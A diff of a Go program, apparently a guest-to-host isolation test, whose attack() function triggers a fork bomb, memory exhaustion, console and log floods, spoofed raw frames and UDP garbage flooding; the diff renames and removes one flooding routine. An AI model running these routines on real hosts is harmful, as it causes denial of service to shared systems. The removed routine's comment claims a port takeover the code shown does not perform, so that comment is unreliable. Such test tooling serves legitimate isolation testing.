@@ -25,10 +25,7 @@ func attack(kind string) error {
 	case "fork":
 		go forkBomb()
 	case "memory":
-		go func() {
-			cmd := exec.Command("/proc/self/exe", "eat")
-			cmd.Run()
-		}()
+		go exec.Command("/proc/self/exe", "eat").Run()
 	case "console":
 		go flood("/dev/console")
 	case "logs":
@@ -38,7 +35,7 @@ func attack(kind string) error {
 	case "spoof":
 		return spoof()
 	case "control":
-		return liar()
+		return lie()
 	default:
 		return fmt.Errorf("no attack %q", kind)
 	}
@@ -110,22 +107,6 @@ func spoof() error {
 		frame[6+i%6] ^= byte(i)
 		copy(frame[26:], []byte{10, byte(i >> 8), byte(i), 1})
 		syscall.Sendto(fd, frame, 0, to)
-	}
-	return nil
-}
-
-// liar answers the host's control protocol with garbage: it takes the port
-// over by ending PID 1's hold on it, as root in a guest can.
-func liar() error {
-	// A second address on the link gets what the first would: raw answers
-	// are out of reach without the port, so garbage goes to whoever asks.
-	conn, err := net.Dial("udp", "[fe80::1%eth0]:1")
-	if err != nil {
-		return err
-	}
-	defer conn.Close()
-	for i := range 5000 {
-		conn.Write(bytes.Repeat([]byte{byte(i)}, 1+i%1200))
 	}
 	return nil
 }
